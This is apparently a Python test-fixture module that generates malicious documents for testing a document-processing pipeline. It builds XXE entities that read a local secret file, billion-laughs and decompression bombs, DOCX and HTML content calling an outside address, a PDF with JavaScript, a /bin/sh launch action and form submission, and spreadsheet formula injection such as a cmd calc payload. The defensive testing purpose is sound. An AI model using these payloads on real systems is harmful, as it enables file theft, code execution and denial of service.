"""Documents that mean harm: each function adds one to a case."""

import io
import re
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from cases import paper
from docx import Document
from openpyxl import Workbook

_W = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_BILLION = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'


def _docx(
    case: Path, name: str, change: Callable[[str, bytes], bytes], *, extra: dict[str, bytes] | None = None
) -> None:
    kept = io.BytesIO()
    document = Document()
    document.add_paragraph("Claim for damaged goods, Invoice INV-77")
    document.save(kept)
    with zipfile.ZipFile(kept) as source, zipfile.ZipFile(case / name, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.namelist():
            target.writestr(entry, change(entry, source.read(entry)))
        for entry, content in (extra or {}).items():
            target.writestr(entry, content)


def _related(kind: str, target: str, *, body: str = "") -> Callable[[str, bytes], bytes]:
    """Give a DOCX a relationship that leads outside."""

    def change(entry: str, content: bytes) -> bytes:
        if entry == "word/_rels/document.xml.rels":
            link = f'<Relationship Id="rIdX" Type="{_W}/{kind}" Target="{target}" TargetMode="External"/>'
            return content.replace(b"</Relationships>", link.encode() + b"</Relationships>")
        if entry == "word/document.xml" and body:
            return re.sub(rb"<w:sectPr", body.encode() + b"<w:sectPr", content, count=1)
        return content

    return change


_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/>'
    '<wp:docPr id="9" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
    f'<a:blip r:link="rIdX" xmlns:r="{_W}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)


def _docx_picture(case: Path, _: Path, address: str) -> None:
    _docx(case, "picture.docx", _related("image", f"http://{address}/p.png", body=_PICTURE))


def _docx_file_picture(case: Path, secret: Path, _: str) -> None:
    _docx(case, "file.docx", _related("image", secret.as_uri(), body=_PICTURE))


def _docx_template(case: Path, _: Path, address: str) -> None:
    _docx(case, "template.docx", _related("attachedTemplate", f"http://{address}/t.dotm"))


def _docx_object(case: Path, _: Path, address: str) -> None:
    _docx(case, "object.docx", _related("oleObject", f"http://{address}/o.bin"))


def _docx_entity(case: Path, secret: Path, _: str) -> None:
    def change(entry: str, content: bytes) -> bytes:
        if entry != "word/document.xml":
            return content
        head, _, rest = content.partition(b"?>")
        entity = f'?><!DOCTYPE w [<!ENTITY s SYSTEM "{secret.as_uri()}">]>'.encode()
        return head + entity + rest.replace(b"Claim for", b"&s; Claim for")

    _docx(case, "entity.docx", change)


def _docx_laughs(case: Path, *_: object) -> None:
    def change(entry: str, content: bytes) -> bytes:
        if entry != "word/document.xml":
            return content
        return _BILLION.encode() + content.partition(b"?>")[2].replace(b"Claim for", b"&l11;")

    _docx(case, "laughs.docx", change)


def _docx_macros(case: Path, *_: object) -> None:
    _docx(
        case,
        "macros.docx",
        lambda _, content: content,
        extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(5000)},
    )


def _docx_bomb(case: Path, *_: object) -> None:
    _docx(case, "bomb.docx", lambda _, content: content, extra={"word/media/image1.png": bytes(700 << 20)})


def _docx_long(case: Path, *_: object) -> None:
    def change(entry: str, content: bytes) -> bytes:
        more = b"<w:p><w:r><w:t>Invoice INV-77</w:t></w:r></w:p>" * 60_000
        return (
            re.sub(rb"<w:sectPr", more + b"<w:sectPr", content, count=1)
            if entry == "word/document.xml"
            else content
        )

    _docx(case, "long.docx", change)


def _docx_deep(case: Path, *_: object) -> None:
    def change(entry: str, content: bytes) -> bytes:
        deep = b"<w:tbl><w:tr><w:tc>" * 3000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 3000
        return (
            re.sub(rb"<w:sectPr", deep + b"<w:sectPr", content, count=1)
            if entry == "word/document.xml"
            else content
        )

    _docx(case, "deep.docx", change)


def _text(case: Path, name: str, content: str) -> None:
    (case / name).write_text(content, encoding="utf-8")


def _html_loads(case: Path, secret: Path, address: str) -> None:
    u = f"http://{address}"
    _text(case, "loads.html", f'<html><head><link rel=stylesheet href="{u}/a.css"><meta http-equiv=refresh content="0;url={u}/b"><style>@import "{u}/c";</style></head><body><img src="{u}/d.png"><iframe src="{secret.as_uri()}"></iframe><object data="{secret.as_uri()}"></object><script src="{u}/e.js"></script>Invoice INV-77</body></html>')  # fmt: skip


def _html_deep(case: Path, *_: object) -> None:
    _text(case, "deep.html", "<div>" * 100_000 + "Invoice" + "</div>" * 100_000)


def _html_mail(case: Path, _: Path, address: str) -> None:
    _text(case, "mail.eml", f'From: a@b.example\nSubject: Claim\nMIME-Version: 1.0\nContent-Type: text/html\n\n<img src="http://{address}/pixel.gif"><script>fetch("http://{address}/s")</script><p>crushed</p>')  # fmt: skip


def _svg_loads(case: Path, secret: Path, address: str) -> None:
    _text(case, "loads.svg", f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://{address}/x.png" width="9" height="9"/><image xlink:href="{secret.as_uri()}" width="9" height="9"/><script>alert(1)</script></svg>')  # fmt: skip


def _svg_entity(case: Path, secret: Path, _: str) -> None:
    _text(case, "entity.svg", f'<!DOCTYPE svg [<!ENTITY s SYSTEM "{secret.as_uri()}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&s;</text></svg>')  # fmt: skip


_INVOICE = '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:ID>{}</cbc:ID></Invoice>'


def _xml_entity(case: Path, secret: Path, _: str) -> None:
    _text(
        case,
        "invoice.xml",
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "{secret.as_uri()}">]>'
        + _INVOICE.format("&s;"),
    )


def _xml_laughs(case: Path, *_: object) -> None:
    _text(case, "laughs.xml", _BILLION + _INVOICE.format("&l11;"))


def _xml_outside(case: Path, _: Path, address: str) -> None:
    _text(
        case,
        "outside.xml",
        f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://{address}/x.dtd">' + _INVOICE.format("1"),
    )


def _xml_deep(case: Path, *_: object) -> None:
    _text(case, "deep.xml", "<a>" * 200_000 + "</a>" * 200_000)


def _pdf(case: Path, name: str, change: Callable[[pikepdf.Pdf], None]) -> None:
    with pikepdf.open(io.BytesIO(paper("Invoice INV-77"))) as document:
        change(document)
        document.save(case / name)


def _pdf_acts(case: Path, _: Path, address: str) -> None:
    def change(document: pikepdf.Pdf) -> None:
        name = pikepdf.Name
        document.Root.OpenAction = pikepdf.Dictionary(
            S=name.JavaScript, JS=pikepdf.String(f"app.launchURL('http://{address}/')")
        )
        document.Root.AA = pikepdf.Dictionary(
            WC=pikepdf.Dictionary(S=name.Launch, F=pikepdf.String("/bin/sh"))
        )
        link = pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 90, 90], A=pikepdf.Dictionary(S=name.SubmitForm, F=pikepdf.String(f"http://{address}/")))  # fmt: skip
        document.pages[0].Annots = pikepdf.Array([link])

    _pdf(case, "acts.pdf", change)


def _pdf_program(case: Path, *_: object) -> None:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["run.exe"] = b"MZ" + bytes(4000)

    _pdf(case, "program.pdf", change)


def _pdf_loop(case: Path, *_: object) -> None:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.Pages.Kids.append(document.Root.Pages)

    _pdf(case, "loop.pdf", change)


def _pdf_form_loop(case: Path, *_: object) -> None:
    def change(document: pikepdf.Pdf) -> None:
        form = document.make_stream(b"/F Do " * 9)
        form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 9, 9]
        form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form))
        document.pages[0].Resources.XObject = pikepdf.Dictionary(F=form)
        document.pages[0].contents_add(b"/F Do")

    _pdf(case, "form-loop.pdf", change)


def _pdf_bomb(case: Path, *_: object) -> None:
    packer = zlib.compressobj(9)
    packed = b"".join([*(packer.compress(b" " * (16 << 20)) for _ in range(96)), packer.flush()])

    def change(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, packed)
        stream.Filter = pikepdf.Name.FlateDecode
        document.pages[0].Contents = document.make_indirect(stream)

    with pikepdf.open(io.BytesIO(paper("Invoice INV-77"))) as document:
        change(document)
        document.save(
            case / "bomb.pdf", stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False
        )


def _pdf_vast(case: Path, *_: object) -> None:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].MediaBox = [0, 0, 1_000_000_000, 1_000_000_000]

    _pdf(case, "vast.pdf", change)


def _pdf_pages(case: Path, *_: object) -> None:
    def change(document: pikepdf.Pdf) -> None:
        for _n in range(6000):
            document.pages.append(document.pages[0])

    _pdf(case, "pages.pdf", change)


def _sheet(case: Path, *_: object) -> None:
    book = Workbook()
    page = book.create_sheet("goods")
    for row in ("=cmd|'/c calc'!A1", '=WEBSERVICE("http://127.0.0.1/x")', "+1+1", "@SUM(1)"):
        page.append(["Invoice", row])
    book.save(case / "formulas.xlsx")


def _sheet_vast(case: Path, *_: object) -> None:
    book = Workbook(write_only=True)
    page = book.create_sheet()
    for n in range(60_000):
        page.append([n] * 10)
    book.save(case / "vast.xlsx")


def _csv(case: Path, *_: object) -> None:
    _text(
        case,
        "wide.csv",
        ",".join(["=1+1"] * 20_000) + "\n" + "\n".join(",".join(["x"] * 50) for _ in range(20_000)),
    )


def _letters(case: Path, *_: object) -> None:
    _text(case, "long.txt", "Invoice No. " + "A1-" * 3_000_000)


DOCUMENTS: dict[str, Callable[..., None]] = {
    "DOCX: a picture on the network": _docx_picture,
    "DOCX: a picture that is a file here": _docx_file_picture,
    "DOCX: a template on the network": _docx_template,
    "DOCX: an object on the network": _docx_object,
    "DOCX: an entity that is a file here": _docx_entity,
    "DOCX: a billion laughs": _docx_laughs,
    "DOCX: macros": _docx_macros,
    "DOCX: 700 MB within": _docx_bomb,
    "DOCX: 60,000 paragraphs": _docx_long,
    "DOCX: tables in tables, 3,000 deep": _docx_deep,
    "HTML: loads what it can": _html_loads,
    "HTML: 100,000 deep": _html_deep,
    "e-mail: pictures and scripts on the network": _html_mail,
    "SVG: loads what it can": _svg_loads,
    "SVG: an entity that is a file here": _svg_entity,
    "XML: an entity that is a file here": _xml_entity,
    "XML: a billion laughs": _xml_laughs,
    "XML: a definition on the network": _xml_outside,
    "XML: 200,000 deep": _xml_deep,
    "PDF: JavaScript, launch and submit": _pdf_acts,
    "PDF: a program attached": _pdf_program,
    "PDF: a page tree that holds itself": _pdf_loop,
    "PDF: a form that draws itself": _pdf_form_loop,
    "PDF: a page of 1.5 GB": _pdf_bomb,
    "PDF: a page of a billion points": _pdf_vast,
    "PDF: 6,000 pages": _pdf_pages,
    "XLSX: formulas that act": _sheet,
    "XLSX: 600,000 cells": _sheet_vast,
    "CSV: 20,000 columns": _csv,
    "text: 9 MB on one line": _letters,
}
